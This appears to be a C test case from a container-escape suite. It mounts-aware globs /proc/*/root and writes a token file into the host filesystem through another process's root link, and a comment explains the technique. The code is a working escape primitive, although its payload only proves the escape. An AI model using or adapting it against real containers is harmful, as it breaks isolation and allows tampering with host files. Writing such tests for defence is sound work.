/*
 * /proc/PID/root leads to the root of that process: a link that the kernel itself follows, whatever the path on it says. Process 1 of the
 * host has the host's root, and so has nearly every other. Whoever may mount a procfs, and sees one of them in it, needs no more:
 * proc_pid_root(5).
 */
#include "attack.h"
#include <glob.h>

// #region attack
/* argv: the host's path of a token. */
void proc_root(char **argv)
{
	char path[PATH_MAX];
	glob_t roots;
	int fd = -1;
	snprintf(path, sizeof path, "%s/[0-9]*/root", proc());
	must(glob(path, 0, NULL, &roots) ? -1 : 0, "see a process");
	for (size_t n = 0; n < roots.gl_pathc && fd < 0; n++) {
		snprintf(path, sizeof path, "%s%s", roots.gl_pathv[n], argv[0]);
		fd = open(path, O_WRONLY | O_CREAT, 0644);
	}
	must(fd, "write into a directory of the host");
	must(write(fd, "out\n", 4), "write a token");
}
// #endregion attack
